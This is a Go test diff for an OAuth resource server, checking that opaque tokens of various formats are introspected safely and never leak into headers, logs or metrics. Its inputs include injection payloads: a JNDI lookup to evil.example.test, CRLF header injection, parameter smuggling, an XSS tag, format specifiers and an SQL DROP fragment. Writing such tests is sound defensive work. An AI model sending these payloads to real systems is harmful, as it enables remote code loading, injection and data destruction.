@@ -111,3 +111,43 @@ func TestAnswersOfDjangoOAuthToolkit(t *testing.T) {
 		fx.expect("a JWT without aud", fx.issuer.Token(resourcetest.Token{Claims: map[string]any{"aud": resourcetest.Remove}}), 200, "")
 	})
 }
+
+// Tokens that are not b64tokens (RFC 6750 §2.1) are introspected. They are in the form of the
+// request, form-encoded, and nowhere else.
+func TestOpaqueTokensOfOtherGrammars(t *testing.T) {
+	inBubble(t, nil, func(fx *fixture) {
+		for name, token := range map[string]string{
+			"Salesforce":          "00DE0000000dhHq!AQcAQPq.zT5_kJ4nQ",
+			"Laravel Sanctum":     "17|fQ2h0xVmUeYl9c3kz0aR",
+			"YouTrack":            "perm:cm9vdA==.NDUtMQ==.rP3uVnZk1",
+			"another parameter":   "x&client_id=evil&token=y",
+			"percent-encoding":    "a%26token%3Db%0d%0aX-Evil:%201",
+			"a plus sign":         "a+b%20c",
+			"a semicolon":         "a;token=b",
+			"a fragment, a query": "a#b?c=d/../e",
+			"an expression":       "${jndi:ldap://evil.example.test/x}",
+			"HTML":                "<script>alert(1)</script>",
+			"a format":            "%s%n%d{{.}}",
+			"SQL":                 "'--;DROP/**/TABLE",
+		} {
+			fx.issuer.OpaqueToken(resourcetest.Token{Text: token, Subject: "bob"})
+			if got := fx.expect(name, token, 200, ""); !strings.HasSuffix(got.caller, " sub:bob") {
+				fx.Errorf("%s: got caller %q", name, got.caller)
+			}
+			got := fx.issuer.Last(resourcetest.Introspection)
+			if want := (url.Values{"token": {token}, "token_type_hint": {"access_token"}}); !reflect.DeepEqual(got.Form, want) || got.URI != "/introspect" {
+				fx.Errorf("%s: got %s %q", name, got.URI, got.Form)
+			}
+			for field, values := range got.Header {
+				if strings.Contains(strings.Join(values, " "), token) {
+					fx.Errorf("%s: the token is in the header field %s", name, field)
+				}
+			}
+			unknown := token + "~unknown"
+			fx.expect(name+", unknown", unknown, 401, resource.ReasonInactive)
+			if written := fx.log.String() + fx.metrics(); strings.Contains(written, token) {
+				fx.Errorf("%s: the token was written: %s", name, written)
+			}
+		}
+	})
+}
